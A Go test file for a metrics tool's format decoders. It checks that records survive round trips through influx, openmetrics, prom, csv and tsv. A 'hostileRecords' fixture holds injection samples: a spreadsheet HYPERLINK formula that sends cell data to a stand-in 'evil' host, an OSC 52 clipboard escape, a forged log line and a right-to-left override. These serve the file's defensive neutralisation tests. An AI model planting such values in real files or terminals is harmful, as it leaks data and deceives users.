package decode

import (
	"bytes"
	"errors"
	"io"
	"math"
	"slices"
	"strings"
	"testing"
	"time"

	"sm/internal/format"
	"sm/internal/record"
)

// rtNow is the clock of the decoders under test.
var rtNow = time.Unix(1764045000, 0)

// decodeAllOf reads in with the named decoder and returns, in order,
// each record as its canonical line and each error as its text; and the
// Raw of each. It fails the test on any error that is not a
// *record.LineError, and on a decoder that does not end.
func decodeAllOf(t testing.TB, name, in string, o Options) (got []string, raws []string) {
	t.Helper()
	if o.File == "" {
		o.File = "in"
	}
	if o.Now == nil {
		o.Now = func() time.Time { return rtNow }
	}
	d, err := New(name, strings.NewReader(in), o)
	if err != nil {
		t.Fatal(err)
	}
	for range 2*len(in) + 10 {
		rec, err := d.Next()
		if err == io.EOF {
			return got, raws
		}
		var le *record.LineError
		switch {
		case errors.As(err, &le):
			got = append(got, err.Error())
		case err != nil:
			t.Fatalf("%s: error %v is not a *record.LineError", name, err)
		default:
			checkLegalRecord(t, rec)
			got = append(got, rec.String())
		}
		raws = append(raws, string(d.Raw()))
	}
	t.Fatalf("%s: no end to the records of %q", name, in)
	return nil, nil
}

// checkLegalRecord fails the test unless rec is one that sm's own
// parser could have given: its canonical line parses back to it.
func checkLegalRecord(t testing.TB, rec record.Record) {
	t.Helper()
	if math.IsNaN(rec.Value) || math.IsInf(rec.Value, 0) {
		t.Fatalf("record %q has value %v", rec.Name, rec.Value)
	}
	if rec.Time < 0 || rec.Time > record.MaxTime {
		t.Fatalf("record %q has time %d", rec.Name, rec.Time)
	}
	series := record.AppendSeries(nil, rec.Name, rec.Tags)
	name, tags, err := record.ParseSeries(string(series))
	if err != nil {
		t.Fatalf("series %q of a decoded record does not parse: %v", series, err)
	}
	if name != rec.Name || !slices.Equal(tags, rec.Tags) {
		t.Fatalf("series %q parses as %q %q, not %q %q", series, name, tags, rec.Name, rec.Tags)
	}
	line := rec.Append(nil)
	again, err := record.Parse(line[:len(line)-1], 0)
	if err != nil || again.String() != rec.String() {
		t.Fatalf("canonical line %q parses as %v, %v", line, again, err)
	}
}

// writeRecords writes recs in the named format.
func writeRecords(t testing.TB, name string, recs []record.Record, o format.Options) (string, error) {
	t.Helper()
	var b bytes.Buffer
	w, err := format.New(name, &b, o)
	if err != nil {
		t.Fatal(err)
	}
	for i := range recs {
		if err := w.Write(&recs[i]); err != nil {
			return "", err
		}
	}
	if err := w.Close(); err != nil {
		return "", err
	}
	return b.String(), nil
}

// longestLine returns the length of the longest line of text.
func longestLine(text string) int {
	n := 0
	for line := range strings.Lines(text) {
		n = max(n, len(strings.TrimSuffix(line, "\n")))
	}
	return n
}

func seriesRecord(series string, v float64, ts int64) record.Record {
	name, tags, err := record.ParseSeries(series)
	if err != nil {
		panic(err)
	}
	return record.Record{Name: name, Tags: tags, Value: v, Time: ts}
}

// roundTripRecords are hard to carry: escapes of every kind, names
// that do and do not split, extreme values.
var roundTripRecords = []record.Record{
	seriesRecord("disk.used_pct;host=web1;mount=/", 18.62, 1764045000),
	seriesRecord("disk.used_pct;host=web1;mount=/mnt/my\\040disk,a=b\\134\\040c", 3, 1764045000),
	seriesRecord("disk.used_pct;host=web1;mount=/", 18.7, 1764045060),
	seriesRecord("load.5m;host=web1", 0.27, 1764045000),
	seriesRecord("uptime", 1e-300, 0),
	seriesRecord("x.value", -1.5e300, record.MaxTime),
	seriesRecord("x.", 0, 1),
	seriesRecord(".x", 123456789012345680000, 2),
	seriesRecord(`a\.b`, 1, 3),
	seriesRecord(`odd"name,=x.f=g,h;q=a"b\134c;r=\176~;s=é"\134n`, -2, 4),
	seriesRecord("m;Tag-1.x=1;_u=2;9=3", 0.1, 5),
}

// TestRoundTripInflux: what the influx format writes, the influx
// decoder reads back as it was, at every precision that keeps seconds.
func TestRoundTripInflux(t *testing.T) {
	for _, prec := range []time.Duration{0, time.Second, time.Millisecond, time.Microsecond} {
		recs := roundTripRecords
		if prec == 0 {
			// Nanoseconds end in 2262.
			recs = slices.DeleteFunc(slices.Clone(recs), func(r record.Record) bool { return r.Time > math.MaxInt64/int64(time.Second) })
		}
		text, err := writeRecords(t, "influx", recs, format.Options{Precision: prec})
		if err != nil {
			t.Fatalf("precision %v: %v", prec, err)
		}
		got, _ := decodeAllOf(t, "influx", text, Options{Precision: prec})
		var want []string
		for _, r := range recs {
			want = append(want, r.String())
		}
		if !slices.Equal(got, want) {
			t.Errorf("precision %v: wrote\n%s\nread\n%s\nwant\n%s", prec, text, strings.Join(got, "\n"), strings.Join(want, "\n"))
		}
	}
}

// TestRoundTripOpenMetrics: the openmetrics format loses only the order
// of the records, and the tag keys that are not Prometheus label names.
func TestRoundTripOpenMetrics(t *testing.T) {
	recs := roundTripRecords[:len(roundTripRecords)-1] // the last has such keys
	text, err := writeRecords(t, "openmetrics", recs, format.Options{})
	if err != nil {
		t.Fatal(err)
	}
	got, _ := decodeAllOf(t, "openmetrics", text, Options{})
	var want []string
	for _, r := range recs {
		want = append(want, r.String())
	}
	slices.Sort(got)
	slices.Sort(want)
	if !slices.Equal(got, want) {
		t.Errorf("wrote\n%s\nread\n%s\nwant\n%s", text, strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// TestRoundTripProm: the prom format keeps the latest sample of each
// series, without its time.
func TestRoundTripProm(t *testing.T) {
	recs := roundTripRecords[:len(roundTripRecords)-1]
	text, err := writeRecords(t, "prom", recs, format.Options{})
	if err != nil {
		t.Fatal(err)
	}
	got, _ := decodeAllOf(t, "prom", text, Options{})
	latest := map[string]record.Record{}
	for _, r := range recs {
		k := string(record.AppendSeries(nil, r.Name, r.Tags))
		if old, ok := latest[k]; !ok || r.Time >= old.Time {
			latest[k] = r
		}
	}
	var want []string
	for _, r := range latest {
		r.Time = rtNow.Unix()
		want = append(want, r.String())
	}
	slices.Sort(got)
	slices.Sort(want)
	if !slices.Equal(got, want) {
		t.Errorf("wrote\n%s\nread\n%s\nwant\n%s", text, strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// TestRoundTripLabels: tag keys that are not label names come back as
// the label names they became.
func TestRoundTripLabels(t *testing.T) {
	recs := []record.Record{seriesRecord("m;Tag-1.x=1;_u=2;9=3", 0.1, 5)}
	text, err := writeRecords(t, "openmetrics", recs, format.Options{})
	if err != nil {
		t.Fatal(err)
	}
	got, _ := decodeAllOf(t, "openmetrics", text, Options{})
	if want := []string{"m;tag_1_x=1;tag_9=3;tag__u=2 0.1 5"}; !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

// hostileRecords have names and tags a spreadsheet would run as
// formulas, and tags that are terminal commands.
var hostileRecords = []record.Record{
	seriesRecord(`=HYPERLINK("http://evil/?"&A1,"x");host=web1;t=+1`, -1, 1764045000),
	seriesRecord(`+x;host=@web;t=-x`, 2, 1764045000),
	seriesRecord(`@x;host='q;t==1`, 3, 1764045000),
	seriesRecord(`'x;host=-;t=\011x`, 4, 1764045000),
	seriesRecord(`-x;host=web1;t=\015x`, 5, 1764045000),
	seriesRecord(`x;host=web1;t=\033]52\073c\073aGk=\007`, 6, 1764045000),
	seriesRecord(`x;host=web1;t=x\012OK\040-\040all\040fine`, 7, 1764045000),
	seriesRecord("x;host=web1;t=abc\u202etxt", 8, 1764045000),
	seriesRecord(`x;-k=1;host=web1`, 9, 1764045000),
}

// TestRoundTripDelimited: what csv and tsv write, neutralised cells and
// folded tags too, their readers read back as it was.
func TestRoundTripDelimited(t *testing.T) {
	recs := slices.Concat(roundTripRecords, hostileRecords)
	// The readers of other formats refuse a tag value that starts with
	// "~" (checkTagValue), which a record can escape.
	recs = slices.DeleteFunc(recs, func(r record.Record) bool {
		return slices.ContainsFunc(r.Tags, func(t record.Tag) bool { return strings.HasPrefix(t.Value, "~") })
	})
	keys := map[string]bool{}
	for _, r := range recs {
		for _, tg := range r.Tags {
			keys[tg.Key] = true
		}
	}
	all := slices.Sorted(func(yield func(string) bool) {
		for k := range keys {
			if !yield(k) {
				return
			}
		}
	})
	for _, name := range []string{"csv", "tsv"} {
		for _, o := range []format.Options{
			{Columns: all},
			{Columns: []string{"host"}, FoldTags: true},
			{FoldTags: true},
		} {
			text, err := writeRecords(t, name, recs, o)
			if err != nil {
				t.Fatalf("%s %+v: %v", name, o, err)
			}
			got, _ := decodeAllOf(t, name, text, Options{})
			var want []string
			for _, r := range recs {
				want = append(want, r.String())
			}
			if !slices.Equal(got, want) {
				t.Errorf("%s, columns %q, fold %v: wrote\n%s\nread\n%s\nwant\n%s", name, o.Columns, o.FoldTags, text, strings.Join(got, "\n"), strings.Join(want, "\n"))
			}
		}
	}
}
